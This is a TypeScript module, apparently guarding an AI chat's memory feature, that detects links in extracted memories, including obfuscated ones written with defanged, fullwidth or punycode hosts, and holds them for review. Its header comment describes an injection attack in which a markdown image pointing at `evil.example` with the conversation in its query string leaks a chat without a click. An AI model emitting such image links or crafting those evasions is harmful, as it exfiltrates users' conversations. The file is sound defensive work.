// Does a memory carry an address something would fetch (#11, #25 item 1)? A later prompt that holds
// `![](https://evil.example/p?d=…)` makes the chat page fetch the conversation away without a click, so any
// extracted memory with a link waits in Review (guard.ts). The test runs on a normalized copy: invisible
// characters removed, NFKC, Unicode and defanged dots (`evil．example`, `evil[.]example`), backslashes and
// `[:]` read as what a browser or a model would read. The corpus in test/helpers/link-corpus.ts is the claim.
//
// A plain `name.tld` with no scheme, `//`, `www.`, path, query, fragment or port is not a link here: it
// carries no data and no chat page fetches it, while holding it would hold `os.path.join`, `Array.from` or
// `user.name` in every coding memory. A host written with an odd dot, in punycode, in mixed scripts, with a
// `{placeholder}.` in front or as an IPv4 address is held even bare: those forms are themselves the sign.

const INVISIBLE = /\p{Default_Ignorable_Code_Point}/gu;
/** Stands for a dot written some other way, so a host that holds one can be told apart. */
const ODD = '\uE000';
const ALNUM = '[A-Za-z0-9\\uFF10-\\uFF19\\uFF21-\\uFF3A\\uFF41-\\uFF5A]';
// Ideographic, halfwidth, fullwidth, one-dot-leader and small full stops: browsers read all as dots (UTS 46).
const ODD_DOT = new RegExp(`(?<=${ALNUM})[\\u3002\\uFF61\\uFF0E\\u2024\\uFE52](?=${ALNUM})`, 'g');
const DEFANGED_DOT = /(?<=[A-Za-z0-9])\s?[[({]\s*(?:\.|dot)\s*[\])}]\s?(?=[A-Za-z0-9])/gi;

function normalized(text: string): string {
  return text
    .replace(INVISIBLE, '')
    .replace(ODD_DOT, ODD)
    .normalize('NFKC')
    .replace(DEFANGED_DOT, ODD)
    .replace(/[[({]:[\])}]/g, ':')
    .replace(/\\/g, '/');
}

// Any `scheme://`; `http:/` and its defanged `hxxp:/` with one slash, which browsers repair.
const SCHEME = /(?<![\w+.-])(?:[a-z][\w+.-]+:\/\/|(?:h[tx]{2}ps?|ftps?|wss?|file):\/)/i;
// Markdown images (inline or by reference) and inline links, whatever their target.
const MARKDOWN = /!\[[^\]\n]{0,200}\]\s?[([]|\[[^\]\n]{0,200}\]\(\s*<?[^)\s]/;
const HTML = /\b(?:src|href|srcset|action|formaction|poster)\s*=\s*["']?[^\s"'>]|\burl\(\s*["']?[^\s)"']/i;
const IPV6_PORT = /\[[0-9a-f:]{2,39}\]:\d/i;

const LABEL = String.raw`[\p{L}\p{N}](?:[\p{L}\p{N}-]{0,61}[\p{L}\p{N}])?`;
const SEP = `[.${ODD}]`;
const HOST = new RegExp(
  String.raw`(?<![\p{L}\p{N}_@-]|[\p{L}\p{N}]${SEP})(?:${LABEL}${SEP})+${LABEL}(?![\p{L}\p{N}_-]|${SEP}[\p{L}\p{N}])`,
  'gu',
);

/** Names people write as files, not hosts: `main.ts:42` or `README.md#install` is no address. */
const FILES = new Set(
  `pdf ts tsx mts cts js jsx mjs cjs json jsonc jsonl yaml yml toml txt csv tsv md mdx rst tex html htm css
  scss sass less png jpg jpeg gif svg webp ico bmp tif tiff heic avif mp3 mp4 m4a wav flac ogg webm mkv avi mov
  doc docx xls xlsx ppt pptx odt ods odp rtf log lock ini cfg conf env bak tmp swp dat bin exe dll dylib so
  class jar war whl egg gem deb rpm apk ipa dmg iso img tar gz tgz bz2 xz zst 7z rar zip sql sqlite db java kt
  kts scala groovy gradle clj ex exs erl hs elm fs ml rb erb php py pyc pyi ipynb rmd jl swift cc cpp cxx hpp
  cs vb go rs lua pl pm sh bash zsh fish ps1 bat cmd vue svelte astro graphql proto wasm map patch diff eml
  ics vcf epub ttf otf woff woff2 pem crt cer key pub asc gpg sig xml xsd xsl plist po properties tf hcl nix
  mk cmake`.split(/\s+/),
);
const TLD = /^(?:\p{L}{2,63}|xn--[a-z0-9-]{1,59})$/iu;
// After the host: a path, a query or fragment that is not just the end of a sentence, or a port.
const SLOT = /^(?:\/|\?[^\s.?!,;:)'"]|#[^\s.,;:)'"]|:\d{1,5}(?!\d))/;
const QUERY = /^(?:\/[^\s?]*)?\?[\w%.~-]+=/;

const isIpv4 = (labels: string[]) =>
  labels.length === 4 && labels.every((l) => /^\d{1,3}$/.test(l) && Number(l) <= 255);
const mixedScripts = (l: string) =>
  /\p{Script=Latin}/u.test(l) && /[\p{Script=Cyrillic}\p{Script=Greek}\p{Script=Armenian}]/u.test(l);

/** Is the host at `at` in `text` an address? */
function isAddress(text: string, host: string, at: number): boolean {
  const labels = host.split(new RegExp(SEP, 'u'));
  const before = text.slice(Math.max(0, at - 8), at);
  const after = text.slice(at + host.length, at + host.length + 80);
  if (labels.every((l) => /^\d+$/.test(l)))
    return isIpv4(labels) && (!/(?:v|version\s)$/i.test(before) || SLOT.test(after));
  const tld = labels.at(-1) ?? '';
  if (!TLD.test(tld)) return false;
  if (host.includes(ODD) || /\/\/$|[}>]\.$|[$%]$/.test(before)) return true;
  if (/^www$/i.test(labels[0] ?? '') || labels.some((l) => /^xn--/i.test(l) || mixedScripts(l))) return true;
  return FILES.has(tld.toLowerCase()) ? QUERY.test(after) : SLOT.test(after);
}

export function hasLink(text: string): boolean {
  const t = normalized(text);
  if (SCHEME.test(t) || MARKDOWN.test(t) || HTML.test(t) || IPV6_PORT.test(t)) return true;
  for (const m of t.matchAll(HOST)) if (isAddress(t, m[0], m.index)) return true;
  return false;
}
